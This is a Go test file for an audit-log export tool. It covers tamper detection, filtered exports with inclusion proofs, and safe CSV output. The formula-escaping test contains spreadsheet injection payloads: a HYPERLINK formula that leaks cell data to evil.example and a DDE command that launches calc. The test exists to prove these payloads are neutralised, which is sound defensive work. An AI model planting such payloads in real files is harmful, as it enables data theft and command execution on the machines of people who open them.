package audit

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/mod/sumdb/tlog"

	"github.com/tvault/tvault/internal/csvsafe"
)

func TestExportRoundTrip(t *testing.T) {
	l, b := buildLog(t, 20)
	out := export(t, l, b, ExportOptions{})
	ls := lines(out)
	if len(ls) != 1+1+20+1 {
		t.Fatalf("export has %d lines, want 23", len(ls))
	}
	if want := `{"tvault_audit_export":1,"origin":"` + testOrigin + `","tree_size":20}` + "\n"; ls[0] != want {
		t.Errorf("header %s, want %s", ls[0], want)
	}
	for i, line := range ls {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("line %d is not JSON: %v", i+1, err)
		}
		if i >= 2 && i < 22 {
			if _, ok := m["proof"]; ok {
				t.Errorf("unfiltered entry line %d has a proof", i+1)
			}
			for _, k := range csvHeader {
				if _, ok := m[k]; !ok {
					t.Errorf("line %d lacks %q", i+1, k)
				}
			}
		}
	}
	sum, err := VerifyExport(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	cp, _ := l.Head(b)
	if sum.Entries != 20 || sum.TreeSize != 20 || sum.Filtered || sum.Root != cp.Root || sum.Signer != "olena" ||
		sum.SignerKey != keyOf(olena) || !sum.First.Equal(testStart) || !sum.Last.Equal(testStart.Add(19*time.Minute)) {
		t.Errorf("summary %+v", sum)
	}
	if want := "ok: 20 entries, tree size 20, root " + cp.Root.String() + ", checkpoint signed by olena (" + keyOf(olena) + ")" +
		"; the keys came from the export itself: compare them with the members' cards, or verify with --trust"; sum.String() != want {
		t.Errorf("String() = %q, want %q", sum, want)
	}
	// Line ends may be CRLF, as after a trip through some mail systems.
	if _, err := VerifyExport(strings.NewReader(strings.ReplaceAll(out, "\n", "\r\n"))); err != nil {
		t.Errorf("CRLF export: %v", err)
	}
	// An export of one entry.
	l1, b1 := buildLog(t, 1)
	if _, err := VerifyExport(strings.NewReader(export(t, l1, b1, ExportOptions{}))); err != nil {
		t.Errorf("one entry: %v", err)
	}
}

func TestTamperedExports(t *testing.T) {
	l, b := buildLog(t, 12)
	good := export(t, l, b, ExportOptions{})
	g := lines(good)
	last := len(g) - 1 // the checkpoint line
	join := func(ls ...[]string) string {
		var s []string
		for _, l := range ls {
			s = append(s, l...)
		}
		return strings.Join(s, "")
	}
	with := func(i int, line string) string {
		c := append([]string(nil), g...)
		c[i] = line
		return join(c)
	}
	entry := func(seq int) int { return 2 + seq } // index of entry seq's line

	// A longer log with the same start: its entry 12 is validly signed by a
	// listed key, and its checkpoint is valid for 13 entries.
	b13 := b.Clone()
	appendN(t, l, b13, 12, 13)
	g13 := lines(export(t, l, b13, ExportOptions{}))

	// Keys line with iryna's key replaced by another.
	otherKeys := []KeyInfo{{Name: "iryna", Key: keyOf(testActor("mallory")), Member: true, PolicyVersions: []int64{1}}, memberKey(olena), memberKey(mykola)}

	// A filtered export, and a forgery of one of its entries: a valid
	// signature by a listed key, a correct hash, the original's proof.
	fl := lines(export(t, l, b, ExportOptions{Record: "r1"}))
	forged := reencode(t, fl[2], func(e *Entry) { e.Outcome = OutcomeDenied; resign(e, mykola) })

	for _, tc := range []struct {
		name, text, want string
	}{
		{"field changed", strings.Replace(good, `"outcome":"denied"`, `"outcome":"ok"`, 1), "entry 2: hash does not match"},
		{"field changed, hash recomputed", with(entry(5), reencode(t, g[entry(5)], func(e *Entry) { e.Detail = "nothing" })), "entry 5: signature does not verify"},
		{"re-signed by another member", with(entry(5), reencode(t, g[entry(5)], func(e *Entry) { resign(e, iryna) })), "checkpoint: root does not match entries"},
		{"deleted from the middle", join(g[:entry(4)], g[entry(5):]), "entry 4 missing (seq jumps from 3 to 5)"},
		{"first deleted", join(g[:entry(0)], g[entry(1):]), "entry 0 missing"},
		{"last deleted", join(g[:entry(11)], g[last:]), "entry 11 missing (export ends at entry 10, tree size 12)"},
		{"two swapped", join(g[:entry(3)], g[entry(4):entry(5)], g[entry(3):entry(4)], g[entry(5):]), "entry 3 missing"},
		{"duplicated", join(g[:entry(7)], g[entry(6):]), "entry 6 appears twice"},
		{"appended without checkpoint", join(g[:last], g13[entry(12):entry(13)], g[last:]), "entry 12 is beyond the tree size 12"},
		{"appended, header bumped", join([]string{strings.Replace(g[0], `"tree_size":12`, `"tree_size":13`, 1)}, g[1:last], g13[entry(12):entry(13)], g[last:]), "checkpoint: tree size 12 does not match the header's 13"},
		{"checkpoint of a longer log", join(g[:last], g13[len(g13)-1:]), "checkpoint: tree size 13"},
		{"checkpoint size altered", with(last, strings.Replace(g[last], `\n12\n`, `\n11\n`, 1)), "checkpoint: signature by mykola does not verify"},
		{"checkpoint root altered", with(last, strings.Replace(g[last], `\n12\n`, `\n12\n`+"A", 1)), "checkpoint:"},
		{"checkpoint removed", join(g[:last]), "checkpoint missing"},
		{"data after checkpoint", good + `{"seq":0}` + "\n", "line 16: data after the checkpoint"},
		{"blank line after checkpoint", good + "\n", "line 16: data after the checkpoint"},
		{"keys changed", with(1, string(appendKeysLine(nil, otherKeys))), "entry 0: key " + keyOf(iryna) + " is not listed for iryna"},
		{"keys removed", join(g[:1], g[2:]), "line 2: not a keys line"},
		{"header field added", with(0, strings.Replace(g[0], `}`, `,"note":"x"}`, 1)), "line 1: not an audit export header"},
		{"header wrong type", with(0, strings.Replace(g[0], `"tree_size":12`, `"tree_size":"12"`, 1)), `line 1: not an audit export header: field "tree_size" has the wrong type`},
		{"header version", with(0, strings.Replace(g[0], `:1,`, `:2,`, 1)), "unsupported export format 2"},
		{"header made filtered", with(0, strings.Replace(g[0], `}`, `,"filter":{"record":"r1"}}`, 1)), "entry 0 does not match the export's filter"},
		{"entry field added", with(entry(3), strings.Replace(g[entry(3)], `{"seq"`, `{"x":1,"seq"`, 1)), "line 6: not an entry or checkpoint"},
		{"entry not canonical", with(entry(3), strings.Replace(g[entry(3)], `"seq":3,`, `"seq": 3,`, 1)), "entry 3: line 6 is not in canonical form"},
		{"entry with a proof", with(entry(3), strings.Replace(g[entry(3)], `}`, `,"proof":[]}`, 1)), "entry 3: line 6 is not in canonical form"},
		{"filtered, forged entry", strings.Join(append(append(append([]string(nil), fl[:2]...), forged), fl[3:]...), ""), "entry 1: inclusion proof does not match the checkpoint"},
		{"filtered, proof emptied", strings.Join(append(append(append([]string(nil), fl[:2]...), fl[2][:strings.Index(fl[2], `"proof":[`)]+`"proof":[]}`+"\n"), fl[3:]...), ""), "entry 1: malformed inclusion proof"},
		{"empty", "", "export is empty"},
		{"not JSON", "hello\n", "line 1: not an audit export header"},
		{"long line", strings.Repeat("x", maxLine+1), "line 1: longer than"},
	} {
		if tc.text == good {
			t.Errorf("%s: tampering did not change the export", tc.name)
			continue
		}
		_, err := VerifyExport(strings.NewReader(tc.text))
		var te *TamperError
		if !errors.Is(err, ErrTampered) || !errors.As(err, &te) {
			t.Errorf("%s: error %v, want a TamperError", tc.name, err)
			continue
		}
		if !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %q, want it to contain %q", tc.name, err, tc.want)
		}
		if strings.Contains(err.Error(), "json:") || strings.Contains(err.Error(), "Go ") {
			t.Errorf("%s: error %q shows Go internals", tc.name, err)
		}
	}
}

func TestFilteredExports(t *testing.T) {
	l, b := buildLog(t, 23)
	for _, tc := range []struct {
		name string
		opts ExportOptions
		want func(i int, e Entry) bool
	}{
		{"record", ExportOptions{Record: "r2"}, func(i int, e Entry) bool { return i%5 == 2 }},
		{"actor", ExportOptions{Actor: "olena"}, func(i int, e Entry) bool { return i%3 == 1 }},
		{"since", ExportOptions{Since: testStart.Add(20 * time.Minute)}, func(i int, e Entry) bool { return i >= 20 }},
		{"until", ExportOptions{Until: testStart.Add(3 * time.Minute)}, func(i int, e Entry) bool { return i < 3 }},
		{"window and record", ExportOptions{Record: "r0", Since: testStart.Add(5 * time.Minute), Until: testStart.Add(15 * time.Minute)},
			func(i int, e Entry) bool { return i%5 == 0 && i >= 5 && i < 15 }},
		{"nothing", ExportOptions{Record: "none"}, func(int, Entry) bool { return false }},
		{"record and also", ExportOptions{Record: "r2", Also: []int64{3, 11}}, func(i int, e Entry) bool { return i%5 == 2 || i == 3 || i == 11 }},
	} {
		out := export(t, l, b, tc.opts)
		want := 0
		for i := range 23 {
			_, e := testEntry(i)
			if tc.want(i, e) {
				want++
				if !strings.Contains(out, `{"seq":`+strconv.Itoa(i)+`,`) {
					t.Errorf("%s: entry %d missing", tc.name, i)
				}
			}
		}
		sum, err := VerifyExport(strings.NewReader(out))
		if err != nil {
			t.Errorf("%s: %v\n%s", tc.name, err, out)
			continue
		}
		if sum.Entries != int64(want) || !sum.Filtered || sum.TreeSize != 23 {
			t.Errorf("%s: summary %+v, want %d entries", tc.name, sum, want)
		}
		if !strings.Contains(sum.String(), "(filtered)") {
			t.Errorf("%s: %s", tc.name, sum)
		}
	}

	// A filtered export of a one-entry log has an empty proof.
	l1, b1 := buildLog(t, 1)
	out := export(t, l1, b1, ExportOptions{Record: "r0"})
	if !strings.Contains(out, `"proof":[]}`) {
		t.Errorf("one-entry filtered export: %s", out)
	}
	if _, err := VerifyExport(strings.NewReader(out)); err != nil {
		t.Error(err)
	}

	// Proofs checked against the full log: every filtered entry's proof is
	// the one tlog gives.
	out = export(t, l, b, ExportOptions{Actor: "mykola"})
	cp, _ := l.Head(b)
	for _, line := range lines(out)[2:] {
		var ej entryJSON
		if json.Unmarshal([]byte(line), &ej) != nil || ej.Time == "" {
			continue
		}
		var p tlog.RecordProof
		for _, s := range ej.Proof {
			h, _ := tlog.ParseHash(s)
			p = append(p, h)
		}
		h, _ := tlog.ParseHash(ej.Hash)
		if err := tlog.CheckRecord(p, 23, cp.Root, ej.Seq, h); err != nil {
			t.Errorf("entry %d: %v", ej.Seq, err)
		}
	}
}

func TestExportKeys(t *testing.T) {
	l, b := buildLog(t, 3)
	// A member's key that the caller does not vouch for is an error.
	var buf bytes.Buffer
	if _, err := l.Export(&buf, b, []KeyInfo{memberKey(iryna), memberKey(olena)}, ExportOptions{}); err == nil ||
		!strings.Contains(err.Error(), "entry 2: the key of mykola") || buf.Len() != 0 {
		t.Errorf("missing key: error %v, %d bytes written", err, buf.Len())
	}
	for _, keys := range [][]KeyInfo{
		{{Name: "iryna", Key: "ed25519:abc"}},
		{{Name: "a b", Key: keyOf(iryna)}},
		{memberKey(iryna), memberKey(iryna)},
	} {
		if _, err := l.Export(&buf, b, keys, ExportOptions{}); err == nil {
			t.Errorf("keys %+v accepted", keys)
		}
	}
}

func TestExportCSV(t *testing.T) {
	l, b := buildLog(t, 12)
	for _, tc := range []struct {
		opts ExportOptions
		seqs []int
	}{
		{ExportOptions{}, []int{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}},
		{ExportOptions{Record: "r3"}, []int{3, 8}},
	} {
		var buf bytes.Buffer
		n, err := l.ExportCSV(&buf, b, tc.opts)
		if err != nil {
			t.Fatal(err)
		}
		if n != len(tc.seqs) {
			t.Errorf("ExportCSV wrote %d rows, want %d", n, len(tc.seqs))
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 1+len(tc.seqs) || strings.Join(rows[0], ",") != "seq,time,actor,actor_key,action,record,class,outcome,detail,hash" {
			t.Fatalf("CSV has %d rows, header %v", len(rows), rows[0])
		}
		for i, seq := range tc.seqs {
			leaf, _ := b.ReadEntry(int64(seq))
			e, _ := ParseLeaf(leaf)
			want := []string{strconv.Itoa(seq), formatTime(e.Time), e.Actor, e.ActorKey, e.Action, e.Record, e.Class,
				e.Outcome, e.Detail, tlog.RecordHash(leaf).String()}
			if strings.Join(rows[1+i], "\x00") != strings.Join(want, "\x00") {
				t.Errorf("row %d = %q, want %q", i+1, rows[1+i], want)
			}
		}
	}
	// The details with commas, quotes, newlines and Cyrillic came back
	// intact (checked above); make sure the test data has them.
	var buf bytes.Buffer
	l.ExportCSV(&buf, b, ExportOptions{Record: "r3"})
	if !strings.Contains(buf.String(), "\"свідчення, \"\"цитата\"\"\nрядок\"") {
		t.Errorf("CSV does not quote the detail as expected:\n%s", buf.String())
	}
}

// TestExportCSVFormulas: a detail a spreadsheet would run as a formula
// (=, +, -, @, tab, carriage return, their fullwidth forms) opens as text:
// the cell gets one leading apostrophe, as does a detail that already
// begins with one, and removing it gives the detail exactly.
func TestExportCSVFormulas(t *testing.T) {
	details := []string{
		`=HYPERLINK("https://evil.example/?"&B2,"open")`,
		"@SUM(A1:A9)",
		"+cmd|' /C calc'!A0",
		"-2+3",
		"\t=1+1",
		"＝1+1",
		"'quoted",
		"plain purpose",
	}
	l, b := New(testOrigin), NewMemBackend()
	for i, d := range details {
		a, e := testEntry(i)
		e.Detail = d
		if _, err := l.Append(b, a, e); err != nil {
			t.Fatalf("Append %q: %v", d, err)
		}
	}
	var buf bytes.Buffer
	if _, err := l.ExportCSV(&buf, b, ExportOptions{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, d := range details {
		cell := rows[1+i][8]
		want := "'" + d
		if d == "plain purpose" {
			want = d
		}
		if cell != want {
			t.Errorf("detail %q written as %q, want %q", d, cell, want)
		}
		if got := csvsafe.Unescape(cell); got != d {
			t.Errorf("Unescape(%q) = %q, want %q", cell, got, d)
		}
	}
}

// An export's "also" seqs must be what Export writes: in order, with
// another criterion; an entry listed by neither is refused.
func TestExportAlsoFilter(t *testing.T) {
	l, b := buildLog(t, 9)
	out := export(t, l, b, ExportOptions{Record: "r2", Also: []int64{4}})
	if !strings.Contains(out, `"filter":{"record":"r2","also":[4]}`) {
		t.Fatalf("header: %s", strings.SplitN(out, "\n", 2)[0])
	}
	for _, bad := range []string{`"also":[4,4]`, `"also":[-1]`} {
		tampered := strings.Replace(out, `"also":[4]`, bad, 1)
		if _, err := VerifyExport(strings.NewReader(tampered)); err == nil {
			t.Errorf("%s verified", bad)
		}
	}
	// Dropping the also seq leaves entry 4 in the export unmatched.
	tampered := strings.Replace(out, `,"also":[4]`, "", 1)
	if _, err := VerifyExport(strings.NewReader(tampered)); err == nil {
		t.Error("an entry no criterion selects verified")
	}
	var buf strings.Builder
	if _, err := l.Export(&buf, b, nil, ExportOptions{Also: []int64{4}}); err == nil {
		t.Error("an also filter without another criterion was accepted")
	}
}
